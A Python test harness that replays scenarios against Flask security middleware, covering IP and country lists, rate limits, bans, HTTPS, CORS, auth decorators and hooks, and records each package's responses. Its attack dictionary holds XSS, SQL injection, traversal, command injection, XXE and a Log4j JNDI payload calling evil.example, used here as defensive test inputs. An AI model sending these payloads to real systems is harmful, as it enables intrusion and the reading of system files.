"""Scenarios of a visitor, and the answers of each package; each scenario runs in its own
process."""

from __future__ import annotations

import json
import logging
import os
import warnings
from collections.abc import Callable, Iterator
from importlib import import_module
from typing import Any

US, DE, CN = "203.0.113.9", "198.51.100.7", "192.0.2.5"
ALLOWED = "203.0.113.1"

Request = dict[str, Any]
Scenario = tuple[str, str, dict[str, Any], list[Request]]


def get(path: str, ip: str = US, method: str = "GET", **rest: Any) -> Request:
    return {"method": method, "path": path, "ip": ip, **rest}


def post(path: str, ip: str = US, **rest: Any) -> Request:
    return get(path, ip, "POST", **rest)


XSS = "%3Cscript%3Ealert(1)%3C/script%3E"
ATTACKS = {
    "xss": XSS,
    "sqli": "1%27%20OR%20%271%27=%271",
    "union": "1%20UNION%20SELECT%20password%20FROM%20users--",
    "traversal": "../../../../etc/passwd",
    "command": ";cat%20/etc/passwd",
    "template": "%7B%7Bconfig.items()%7D%7D",
    "log4j": "$%7Bjndi:ldap://evil.example/a%7D",
    "php": "php://filter/convert.base64-encode/resource=index.php",
    "ldap": "*)(uid=*))(|(uid=*",
    "xxe": "%3C!DOCTYPE%20foo%20%5B%3C!ENTITY%20x%20SYSTEM%20%22file:///etc/passwd%22%3E%5D%3E",
}
HARMLESS = {
    "word": "shoes",
    "sentence": "a+quiet+place+to+read+on+a+sunday",
    "union": "select+a+union+rep+from+the+list",
    "apostrophe": "O%27Reilly",
    "url": "https://shop.example/a?b=c",
    "accents": "%C3%A9l%C3%A8ve",
    "number": "42",
    "json": "%7B%22a%22:%201%7D",
    "code": "if+a+%3C+b+and+c+%3E+d",
    "email": "ann%2Bnews@shop.example",
}


def scenarios() -> Iterator[Scenario]:
    """Name, app, options, requests."""
    for path in ("/", "/ip", "/items/7", "/search?q=x", "/health", "/nowhere", "/missing-page"):
        yield f"simple GET {path}", "simple", {}, [get(path)]
        yield f"simple HEAD {path}", "simple", {}, [get(path, method="HEAD")]
    for path in ("/fails", "/moved", "/own-headers", "/items/x", "/echo", "//", "/search/"):
        yield f"simple GET {path}", "simple", {}, [get(path)]
    for name, attack in ATTACKS.items():
        yield f"{name} in a query", "simple", {}, [get(f"/search?q={attack}")]
        yield f"{name} in a later value", "simple", {}, [get(f"/search?q=a&q={attack}")]
        yield (
            f"{name} in a form",
            "simple",
            {},
            [post("/echo", data=f"a={attack}", type="application/x-www-form-urlencoded")],
        )
    for name in ("xss", "sqli", "command"):
        body = json.dumps(
            {
                "a": {"xss": "<script>alert(1)</script>", "sqli": "1' OR '1'='1"}.get(
                    name, ";cat /etc/passwd"
                )
            }
        )
        yield f"{name} in JSON", "simple", {}, [post("/echo", data=body, type="application/json")]
        yield (
            f"{name} with detection off",
            "simple",
            {"enable_penetration_detection": False},
            [get(f"/search?q={ATTACKS[name]}")],
        )
        yield (
            f"{name} in passive mode",
            "simple",
            {"passive_mode": True},
            [get(f"/search?q={ATTACKS[name]}")],
        )
    for name, text in HARMLESS.items():
        yield f"harmless {name} in a query", "simple", {}, [get(f"/search?q={text}")]
        yield (
            f"harmless {name} in a form",
            "simple",
            {},
            [post("/echo", data=f"a={text}", type="application/x-www-form-urlencoded")],
        )
    yield from _lists()
    yield from _limits_and_bans()
    yield from _transport()
    yield from _cors()
    yield from _views()
    yield from _hooks()


def _lists() -> Iterator[Scenario]:
    for name, options in {
        "whitelist": {"whitelist": [ALLOWED]},
        "blacklist": {"blacklist": [US]},
        "blacklist of a network": {"blacklist": ["203.0.113.0/24"]},
        "both lists": {"whitelist": [ALLOWED], "blacklist": ["203.0.113.0/24"]},
        "blocked country": {"blocked_countries": ["US"]},
        "allowed country": {"whitelist_countries": ["US"]},
        "allowed country, lower case": {"whitelist_countries": ["us"]},
    }.items():
        for ip in (ALLOWED, US, DE):
            yield f"{name}, from {ip}", "simple", options, [get("/", ip)]
    yield "unknown country", "simple", {"whitelist_countries": ["US"]}, [get("/", "100.20.0.1")]
    yield (
        "loopback and countries",
        "simple",
        {"whitelist_countries": ["US"]},
        [get("/", "127.0.0.1")],
    )
    for agent in ("badbot/1.0", "Mozilla/5.0", "Evil-Crawler", ""):
        yield f"user agent {agent!r}", "simple", {}, [get("/", agent=agent)]
    yield (
        "look-around for user agents",
        "simple",
        {"blocked_user_agents": ["^(?!Mozilla)"]},
        [get("/", agent="curl/8"), get("/", agent="Mozilla/5.0")],
    )
    yield (
        "exempt address and user agents",
        "simple",
        {"exempt_ips": [US]},
        [get("/", agent="badbot")],
    )
    yield (
        "an excluded path",
        "simple",
        {"exclude_paths": ["/search"]},
        [get(f"/search?q={XSS}")],
    )
    yield (
        "a path beside an excluded one",
        "simple",
        {"exclude_paths": ["/sea"]},
        [get(f"/search?q={XSS}")],
    )


def _limits_and_bans() -> Iterator[Scenario]:
    yield "the global limit", "simple", {"rate_limit": 3}, [get("/")] * 5
    yield (
        "each client has its own",
        "simple",
        {"rate_limit": 2},
        [get("/"), get("/"), get("/", DE), get("/")],
    )
    yield "the limit of 404s", "simple", {"rate_limit": 2}, [get("/nowhere")] * 3
    yield "limits off", "simple", {"rate_limit": 2, "enable_rate_limiting": False}, [get("/")] * 4
    yield (
        "a limit of a path",
        "simple",
        {"endpoint_rate_limits": {"/health": (2, 60)}},
        [get("/health")] * 3 + [get("/")],
    )
    yield (
        "a limit and an exempt client",
        "simple",
        {"rate_limit": 2, "exempt_ips": [US]},
        [get("/")] * 4,
    )
    yield (
        "a limit and a trusted client",
        "simple",
        {"rate_limit": 2, "whitelist": [US]},
        [get("/")] * 4,
    )
    yield (
        "a limit in passive mode",
        "simple",
        {"rate_limit": 2, "passive_mode": True},
        [get("/")] * 4,
    )
    yield (
        "a ban after attacks",
        "simple",
        {"auto_ban_threshold": 3},
        [get(f"/search?q={XSS}")] * 4 + [get("/"), get("/", DE)],
    )
    yield (
        "no ban in passive mode",
        "simple",
        {"auto_ban_threshold": 2, "passive_mode": True},
        [get(f"/search?q={XSS}")] * 4,
    )
    yield (
        "no ban where bans are off",
        "simple",
        {"auto_ban_threshold": 2, "enable_ip_banning": False},
        [get(f"/search?q={XSS}")] * 4,
    )
    yield (
        "a ban by one category",
        "simple",
        {"threat_ban_config": {"xss": {"threshold": 2, "duration": 60}}},
        [get(f"/search?q={XSS}")] * 3,
    )
    yield (
        "a ban for too many requests",
        "simple",
        {"rate_limit": 1, "enable_rate_limit_auto_ban": True, "auto_ban_threshold": 3},
        [get("/")] * 6,
    )
    yield "emergency", "simple", {"emergency_mode": True}, [get("/")]
    yield (
        "emergency, an allowed client",
        "simple",
        {"emergency_mode": True, "emergency_whitelist": [US]},
        [get("/"), get("/", DE)],
    )


def _transport() -> Iterator[Scenario]:
    yield "https is enforced", "simple", {"enforce_https": True}, [get("/?a=b")]
    yield (
        "https is there",
        "simple",
        {"enforce_https": True},
        [get("/", url="https://shop.example")],
    )
    proxied = {"trusted_proxies": ["10.0.0.0/8"], "trust_x_forwarded_proto": True}
    proto = {"X-Forwarded-Proto": "https"}
    yield (
        "https at the proxy",
        "simple",
        {"enforce_https": True, **proxied},
        [get("/", "10.0.0.1", headers=proto)],
    )
    yield (
        "https that a stranger claims",
        "simple",
        {"enforce_https": True, **proxied},
        [get("/", headers=proto)],
    )
    for header in (US, f"{DE}, {US}", "junk", "", f"{US}:8080", "unknown"):
        yield (
            f"forwarded for {header!r}",
            "simple",
            {"trusted_proxies": ["10.0.0.0/8"]},
            [get("/ip", "10.0.0.1", headers={"X-Forwarded-For": header})],
        )
        yield (
            f"forwarded by a stranger for {header!r}",
            "simple",
            {},
            [get("/ip", headers={"X-Forwarded-For": header})],
        )
    yield (
        "two proxies",
        "simple",
        {"trusted_proxies": ["10.0.0.0/8"], "trusted_proxy_depth": 2},
        [get("/ip", "10.0.0.1", headers={"X-Forwarded-For": f"{US}, {DE}, 10.0.0.2"})],
    )


def _cors() -> Iterator[Scenario]:
    cors = {"enable_cors": True, "cors_allow_origins": ["https://a.example"]}
    ours, theirs = {"Origin": "https://a.example"}, {"Origin": "https://b.example"}
    asks = {"Access-Control-Request-Method": "POST"}
    for name, origin in (("allowed", ours), ("strange", theirs)):
        yield f"CORS, {name} origin", "simple", cors, [get("/", headers=origin)]
        yield (
            f"preflight, {name} origin",
            "simple",
            cors,
            [get("/echo", method="OPTIONS", headers={**origin, **asks})],
        )
        yield (
            f"refused, {name} origin",
            "simple",
            cors,
            [get(f"/search?q={XSS}", headers=origin)],
        )
    yield (
        "preflight for a strange header",
        "simple",
        {**cors, "cors_allow_headers": ["X-A"]},
        [
            get(
                "/echo",
                method="OPTIONS",
                headers={**ours, **asks, "Access-Control-Request-Headers": "X-B"},
            )
        ],
    )
    yield (
        "preflights and the limit",
        "simple",
        {**cors, "rate_limit": 2},
        [get("/echo", method="OPTIONS", headers={**ours, **asks})] * 4,
    )
    yield "OPTIONS without CORS", "simple", {}, [get("/echo", method="OPTIONS")]


def _views() -> Iterator[Scenario]:
    bearer = {"Authorization": "Bearer key-of-ann"}
    tried: dict[str, list[Request]] = {
        "/access/open": [get("/access/open")],
        "/access/white": [get("/access/white", ip) for ip in (ALLOWED, US, DE)],
        "/access/black": [get("/access/black", ip) for ip in (ALLOWED, US)],
        "/access/not-cn": [get("/access/not-cn", ip) for ip in (US, CN)],
        "/access/only-us": [get("/access/only-us", ip) for ip in (US, DE, "100.20.0.1")],
        "/access/no-clouds": [get("/access/no-clouds")],
        "/access/no-checks": [get(f"/access/no-checks?q={XSS}")],
        "/access/no-detection": [get(f"/access/no-detection?q={XSS}")],
        "/access/open attacked": [get(f"/access/open?q={XSS}")],
        "/auth/https": [get("/auth/https")],
        "/auth/https by proxy": [
            get("/auth/https", "10.0.0.1", headers={"X-Forwarded-Proto": "https"})
        ],
        "/auth/bearer without": [get("/auth/bearer")],
        "/auth/bearer": [get("/auth/bearer", headers=bearer)],
        "/auth/bearer, lower case": [
            get("/auth/bearer", headers={"Authorization": "bearer key-of-ann"})
        ],
        "/auth/bearer wrong": [get("/auth/bearer", headers={"Authorization": "Bearer no"})],
        "/auth/basic without": [get("/auth/basic")],
        "/auth/basic": [get("/auth/basic", headers={"Authorization": "Basic key-of-ann"})],
        "/auth/key without": [get("/auth/key")],
        "/auth/key": [get("/auth/key", headers={"X-API-Key": "key-of-ann"})],
        "/auth/key wrong": [get("/auth/key", headers={"X-API-Key": "no"})],
        "/auth/presence": [get("/auth/presence", headers={"Authorization": "Bearer any"})],
        "/auth/presence without": [get("/auth/presence")],
        "/auth/headers without": [get("/auth/headers")],
        "/auth/headers": [
            get("/auth/headers", headers={"X-Requested-With": "XMLHttpRequest", "X-Any": "1"})
        ],
        "/auth/headers wrong": [
            get("/auth/headers", headers={"X-Requested-With": "other", "X-Any": "1"})
        ],
        "/rate/three": [get("/rate/three")] * 5,
        "/rate/three by paths": [get(f"/rate/three/{n}") for n in range(5)],
        "/rate/geo US": [get("/rate/geo", US)] * 4,
        "/rate/geo DE": [get("/rate/geo", DE)] * 6,
        "/rate/geo elsewhere": [get("/rate/geo", CN)] * 3,
        "/content/no-bots": [get("/content/no-bots", agent=a) for a in ("a Spider", "Mozilla/5.0")],
        "/content/json": [post("/content/json", data="{}", type="application/json")],
        "/content/json of text": [post("/content/json", data="x", type="text/plain")],
        "/content/json GET": [get("/content/json")],
        "/content/small": [
            post("/content/small", data="x" * n, type="text/plain") for n in (50, 500)
        ],
        "/content/referrer without": [get("/content/referrer")],
        "/content/referrer": [
            get("/content/referrer", headers={"Referer": "https://www.shop.example/a"})
        ],
        "/content/referrer elsewhere": [
            get("/content/referrer", headers={"Referer": "https://other.example/"})
        ],
        "/content/validated": [get("/content/validated"), get("/content/validated?bad=1")],
        "/behavior/usage": [get("/behavior/usage")] * 6,
        "/behavior/returns": [get("/behavior/returns")] * 6,
        "/behavior/often": [get("/behavior/often")] * 6,
        "/advanced/always": [get("/advanced/always")],
        "/advanced/honeypot": [
            post("/advanced/honeypot", data="a=b", type="application/x-www-form-urlencoded")
        ],
        "/advanced/honeypot filled in": [
            post("/advanced/honeypot", data="website=x", type="application/x-www-form-urlencoded")
        ],
        "/advanced/undetected": [get(f"/advanced/undetected?q={XSS}")],
        "/advanced/excluded": [
            get(f"/advanced/excluded?code={XSS}"),
            get(f"/advanced/excluded?q={XSS}"),
        ],
        "/": [get("/")],
        "/nowhere": [get("/nowhere")],
    }
    for name, requests in tried.items():
        yield f"advanced {name}", "advanced", {}, requests
    yield (
        "a route's limit under a lower global one",
        "advanced",
        {"rate_limit": 2},
        [get("/rate/three")] * 4,
    )
    yield (
        "a view and enforced https",
        "advanced",
        {"enforce_https": True},
        [get("/access/black", DE)],
    )
    yield (
        "a view's rules in passive mode",
        "advanced",
        {"passive_mode": True},
        [get("/auth/bearer")],
    )


def _hooks() -> Iterator[Scenario]:
    yield "a check that passes", "simple", {"custom_request_check": "passes"}, [get("/")]
    yield "a check that refuses", "simple", {"custom_request_check": "refuses"}, [get("/")]
    yield "a check that raises", "simple", {"custom_request_check": "raises"}, [get("/")]
    yield (
        "a check that raises, not fail_secure",
        "simple",
        {"custom_request_check": "raises", "fail_secure": False},
        [get("/")],
    )
    yield "a modifier", "simple", {"custom_response_modifier": "modifies"}, [get("/")]
    yield (
        "a modifier of a refusal",
        "simple",
        {"custom_response_modifier": "modifies"},
        [get(f"/search?q={XSS}")],
    )
    yield "headers", "simple", {}, [get("/", headers_of_answer=True)]
    yield "headers off", "simple", {"security_headers": None}, [get("/", headers_of_answer=True)]
    yield (
        "headers of one's own",
        "simple",
        {"security_headers": {"enabled": True, "frame_options": "DENY", "custom": {"X-Own": "1"}}},
        [get("/", headers_of_answer=True)],
    )


TOLD_HEADERS = (
    "X-Content-Type-Options",
    "X-Frame-Options",
    "X-XSS-Protection",
    "Referrer-Policy",
    "Permissions-Policy",
    "Cross-Origin-Embedder-Policy",
    "Cross-Origin-Opener-Policy",
    "X-Download-Options",
    "Strict-Transport-Security",
    "X-Own",
)


def answers(module: str) -> dict[str, list[str]]:
    """Return the answers of the package, scenario by scenario."""
    import_module(module)
    return {name: _in_a_process_of_its_own(_play, module, *rest) for name, *rest in scenarios()}


def _play(
    module: str, app_name: str, options: dict[str, Any], requests: list[Request]
) -> list[str]:
    logging.disable(logging.CRITICAL)
    warnings.simplefilter("ignore")
    names = import_module(module)
    apps = import_module("tests.migration.example_apps" if __package__ else "example_apps")
    options = {
        name: _hook(names, value)
        if name.startswith("custom_") and isinstance(value, str)
        else value
        for name, value in options.items()
    }
    try:
        app = getattr(apps, f"{app_name}_app")(names, **options)
    except Exception as error:
        return [f"does not start: {type(error).__name__}"]
    client = app.test_client()
    return [_reported(client, request) for request in requests]


def _reported(client: Any, asked: Request) -> str:
    headers = dict(asked.get("headers", {}))
    if "agent" in asked:
        headers["User-Agent"] = asked["agent"]
    try:
        answer = client.open(
            asked["path"],
            method=asked["method"],
            data=asked.get("data"),
            content_type=asked.get("type"),
            headers=headers,
            base_url=asked.get("url", "http://shop.example"),
            environ_base={"REMOTE_ADDR": asked["ip"]},
        )
    except Exception as error:
        return f"raises {type(error).__name__}"
    told = str(answer.status_code)
    if answer.status_code in (301, 308):
        told += f" {answer.headers['Location']}"
    if answer.status_code == 200 and answer.is_json and answer.data:
        told += f" {json.dumps(answer.get_json(), sort_keys=True)}"
    if asked.get("headers_of_answer"):
        told += "".join(
            f"\n{name}: {answer.headers[name]}" for name in TOLD_HEADERS if name in answer.headers
        )
    for name in ("Access-Control-Allow-Origin", "X-Modified"):
        if name in answer.headers:
            told += f" {name}: {answer.headers[name]}"
    return told


def _hook(names: Any, kind: str) -> Callable[[Any], Any]:
    def passes(request: Any) -> Any:
        return None

    def raises(request: Any) -> Any:
        raise KeyError("x")

    def refuses(request: Any) -> Any:
        from flask import Response

        if hasattr(names, "decode_basic"):
            return names.GuardResponse("tea", 418)
        return names.FlaskGuardResponse(Response("tea", 418))

    def modifies(response: Any) -> Any:
        response.headers["X-Modified"] = "1"
        return response

    return {"passes": passes, "raises": raises, "refuses": refuses, "modifies": modifies}[kind]


def _in_a_process_of_its_own(play: Callable[..., list[str]], *arguments: Any) -> list[str]:
    """Singletons of one scenario must not answer in the next."""
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.close(reading)
            data = json.dumps(play(*arguments)).encode()
            while data:
                data = data[os.write(writing, data) :]
        finally:
            os._exit(0)
    os.close(writing)
    with os.fdopen(reading, "rb") as pipe:
        told = pipe.read()
    os.waitpid(child, 0)
    found: list[str] = json.loads(told or b'["died"]')
    return found
